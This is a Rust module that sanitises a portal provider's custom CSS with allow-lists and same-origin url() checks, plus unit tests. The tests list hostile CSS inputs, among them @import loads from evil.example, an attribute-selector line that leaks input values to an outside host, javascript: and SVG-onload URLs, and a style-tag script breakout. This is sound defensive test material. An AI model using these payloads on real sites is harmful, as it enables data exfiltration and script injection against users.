//! The provider's own stylesheet, checked by a CSS parser (servo's `cssparser`, which
//! tokenises as browsers do: escapes such as `@\69mport` and comments such as
//! `@/**/import` are seen for what they are) against what a portal's look needs: style
//! rules and `@media` blocks of them, properties from a list, values of plain tokens and a
//! few functions, and `url()` only to the portal's own origin or an inline image. Nothing
//! else loads, nothing reaches another origin, nothing reads the page (`url()` after an
//! attribute selector is how a stylesheet would send a page's secrets away).

use cssparser::{ParseError, ParseErrorKind, Parser, Token};

/// Properties a stylesheet may set (a name, or a prefix ending in `-`), and custom
/// properties (`--sc-brand`, the provider's own).
const PROPERTIES: &[&str] = &[
    "color",
    "opacity",
    "background",
    "background-",
    "border",
    "border-",
    "outline",
    "outline-",
    "box-shadow",
    "font",
    "font-",
    "letter-spacing",
    "word-spacing",
    "line-height",
    "text-",
    "white-space",
    "vertical-align",
    "list-style",
    "list-style-",
    "margin",
    "margin-",
    "padding",
    "padding-",
    "gap",
    "row-gap",
    "column-gap",
    "width",
    "min-width",
    "max-width",
    "height",
    "min-height",
    "max-height",
    "display",
    "visibility",
    "cursor",
    "accent-color",
    "caret-color",
];

/// Functions a value may call (`url` is checked on its own).
const FUNCTIONS: &[&str] = &[
    "rgb",
    "rgba",
    "hsl",
    "hsla",
    "hwb",
    "lab",
    "lch",
    "oklab",
    "oklch",
    "color-mix",
    "var",
    "calc",
    "min",
    "max",
    "clamp",
    "linear-gradient",
    "radial-gradient",
    "repeating-linear-gradient",
    "repeating-radial-gradient",
];

type Refusal = ParseError<String>;

/// A refusal in words, with the line it is on.
fn refuse(input: &Parser<'_>, why: impl std::fmt::Display) -> Refusal {
    ParseError::custom(format!(
        "{why} (line {})",
        input.current_source_location().line + 1
    ))
}

/// Checks a stylesheet; the first refusal, in words, with its line.
pub fn check(css: &str) -> Result<(), String> {
    let mut parser = Parser::new(css);
    rules(&mut parser, true).map_err(|e| match e.kind {
        ParseErrorKind::Custom(why) => why,
        ParseErrorKind::Basic(basic) => format!("not CSS: {basic}"),
    })
}

/// Style rules (and, at the top, `@media` blocks of them), to the end of the input.
fn rules<'i>(input: &mut Parser<'i>, top: bool) -> Result<(), Refusal> {
    loop {
        let mut prelude = false;
        let mut media = false;
        loop {
            let token = match input.next() {
                Ok(token) => token.clone(),
                Err(_) if prelude => return Err(refuse(input, "a rule without its { }")),
                Err(_) => return Ok(()),
            };
            match token {
                Token::CurlyBracketBlock if !prelude => {
                    return Err(refuse(input, "a block without a selector"));
                }
                Token::CurlyBracketBlock if media => {
                    input.parse_nested_block(|p| rules(p, false))?
                }
                Token::CurlyBracketBlock => input.parse_nested_block(declarations)?,
                Token::AtKeyword(name) if top && !prelude && name.eq_ignore_ascii_case("media") => {
                    media = true;
                    prelude = true;
                    continue;
                }
                Token::AtKeyword(name) => {
                    return Err(refuse(
                        input,
                        format!("@{name} is not allowed: style rules and @media only"),
                    ));
                }
                Token::Function(_) | Token::ParenthesisBlock | Token::SquareBracketBlock => {
                    input.parse_nested_block(selector_part)?;
                    prelude = true;
                    continue;
                }
                other => {
                    forbidden(input, &other)?;
                    prelude = true;
                    continue;
                }
            }
            break;
        }
    }
}

/// Tokens no part of a stylesheet may hold.
fn forbidden<'i>(input: &Parser<'i>, token: &Token<'i>) -> Result<(), Refusal> {
    match token {
        Token::Semicolon => Err(refuse(input, "a stray ;")),
        Token::UnquotedUrl(_) | Token::BadUrl(_) => {
            Err(refuse(input, "url() belongs in a property's value"))
        }
        Token::BadString(_) => Err(refuse(input, "an unterminated string")),
        Token::CDO | Token::CDC | Token::Delim('<') => Err(refuse(input, "no markup")),
        Token::Delim('@') | Token::Delim('\\') => Err(refuse(input, "a stray @ or \\")),
        Token::CloseCurlyBracket | Token::CloseParenthesis | Token::CloseSquareBracket => {
            Err(refuse(input, "an unbalanced bracket"))
        }
        _ => Ok(()),
    }
}

/// Inside a selector's brackets (`:not(...)`, `[href]`).
fn selector_part<'i>(input: &mut Parser<'i>) -> Result<(), Refusal> {
    while let Ok(token) = input.next() {
        match token.clone() {
            Token::Function(_) | Token::ParenthesisBlock | Token::SquareBracketBlock => {
                input.parse_nested_block(selector_part)?
            }
            Token::AtKeyword(_) | Token::CurlyBracketBlock => {
                return Err(refuse(input, "a selector cannot hold that"));
            }
            other => forbidden(input, &other)?,
        }
    }
    Ok(())
}

/// `property: value; ...` inside a rule's block.
fn declarations<'i>(input: &mut Parser<'i>) -> Result<(), Refusal> {
    loop {
        let name = match input.next() {
            Err(_) => return Ok(()),
            Ok(Token::Semicolon) => continue,
            Ok(Token::Ident(name)) => name.to_ascii_lowercase(),
            Ok(_) => return Err(refuse(input, "a declaration is property: value")),
        };
        if !allowed_property(&name) {
            return Err(refuse(
                input,
                format!("the property {name} is not one a portal's look may set"),
            ));
        }
        if !matches!(input.next(), Ok(Token::Colon)) {
            return Err(refuse(input, format!("{name} needs a : and a value")));
        }
        loop {
            let token = match input.next() {
                Err(_) | Ok(Token::Semicolon) => break,
                Ok(token) => token.clone(),
            };
            value_token(input, token)?;
        }
    }
}

fn allowed_property(name: &str) -> bool {
    name.starts_with("--")
        || PROPERTIES.iter().any(|p| match p.strip_suffix('-') {
            Some(_) => name.starts_with(p),
            None => name == *p,
        })
}

fn value_token<'i>(input: &mut Parser<'i>, token: Token<'i>) -> Result<(), Refusal> {
    match token {
        Token::UnquotedUrl(url) => same_origin(input, &url),
        Token::Function(name) if name.eq_ignore_ascii_case("url") => {
            input.parse_nested_block(|p| match p.next().cloned() {
                Ok(Token::QuotedString(url)) => same_origin(p, &url),
                _ => Err(refuse(p, "url() takes one address")),
            })
        }
        Token::Function(name) if FUNCTIONS.iter().any(|f| name.eq_ignore_ascii_case(f)) => {
            input.parse_nested_block(value_part)
        }
        Token::Function(name) => Err(refuse(
            input,
            format!("the function {name}() is not allowed"),
        )),
        Token::ParenthesisBlock => input.parse_nested_block(value_part),
        Token::AtKeyword(_) | Token::CurlyBracketBlock | Token::SquareBracketBlock => {
            Err(refuse(input, "a value cannot hold that"))
        }
        other => forbidden(input, &other),
    }
}

fn value_part<'i>(input: &mut Parser<'i>) -> Result<(), Refusal> {
    while let Ok(token) = input.next() {
        let token = token.clone();
        value_token(input, token)?;
    }
    Ok(())
}

/// An address the portal's own origin serves (an absolute path of plain characters) or an
/// inline raster image; never another origin, never script. Browsers read `/\`, control
/// characters and whitespace in addresses loosely (`/\evil.example` is another host), so
/// anything but plain path characters is refused rather than interpreted.
fn same_origin<'i>(input: &Parser<'i>, url: &str) -> Result<(), Refusal> {
    let own_path = url.len() > 1
        && url.starts_with('/')
        && !url.starts_with("//")
        && url
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'~'));
    let inline_image = ["png", "gif", "jpeg", "webp"].iter().any(|kind| {
        url.strip_prefix(&format!("data:image/{kind};base64,"))
            .is_some_and(|data| {
                data.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
            })
    });
    if own_path || inline_image {
        Ok(())
    } else {
        Err(refuse(
            input,
            format!(
                "url({url}) is not a path on the portal's own site (/assets/logo.png) or an \
                 inline image"
            ),
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::check;

    #[test]
    fn a_portals_look_passes() {
        let css = "/* Acme */\n\
                   :root { --sc-brand: #0b5cad; }\n\
                   .sc-header, header nav > a:not(.sc-current) { color: rgb(0 0 0 / 80%); \
                   background: linear-gradient(90deg, #fff, var(--sc-brand)) !important; }\n\
                   @media (max-width: 40rem) { .sc-card { padding: calc(1rem + 2px); } }\n\
                   .sc-logo { background-image: url('/assets/logo.png'); }\n\
                   .sc-badge { background-image: url(data:image/png;base64,iVBORw0KGgo=); }";
        assert_eq!(check(css), Ok(()));
        assert_eq!(check(""), Ok(()));
    }

    #[test]
    fn what_loads_reaches_out_or_hides_is_refused_however_it_is_spelled() {
        for css in [
            "@import url(https://evil.example/x.css);",
            "@\\69mport 'https://evil.example/x.css';",
            "@/**/import 'x.css';",
            "@font-face { src: url(https://evil.example/f.woff); }",
            "input[value^=a] { background: url(https://evil.example/?a); }",
            "a { background: url('//evil.example/x'); }",
            "a { background: url(\"/\\\\evil.example/x\"); }",
            "a { background: url(\"\\1//evil.example/x\"); }",
            "a { background: url(\"/\\9/evil.example/x\"); }",
            ":root { --x: url(https://evil.example/x); }",
            "a { background: url('assets/../../x?y'); }",
            "a { background: u\\72l(https://evil.example/x); }",
            "a { background: url(javascript:alert(1)); }",
            "a { background: url('data:image/svg+xml,<svg onload=alert(1)>'); }",
            "a { background: image-set('https://evil.example/x' 1x); }",
            "a { behavior: url(x.htc); }",
            "a { -moz-binding: url(x.xml#x); }",
            "a { width: expression(alert(1)); }",
            "a { position: fixed; }",
            "</style><script>alert(1)</script>",
            "a { color: red; } }",
            "a",
            "@media screen { @import 'x.css'; }",
            "a { color: \"unterminated\n }",
        ] {
            assert!(check(css).is_err(), "{css} should be refused");
        }
        assert_eq!(
            check("a {\n  color: red;\n  position: fixed;\n}"),
            Err("the property position is not one a portal's look may set (line 3)".into())
        );
    }
}
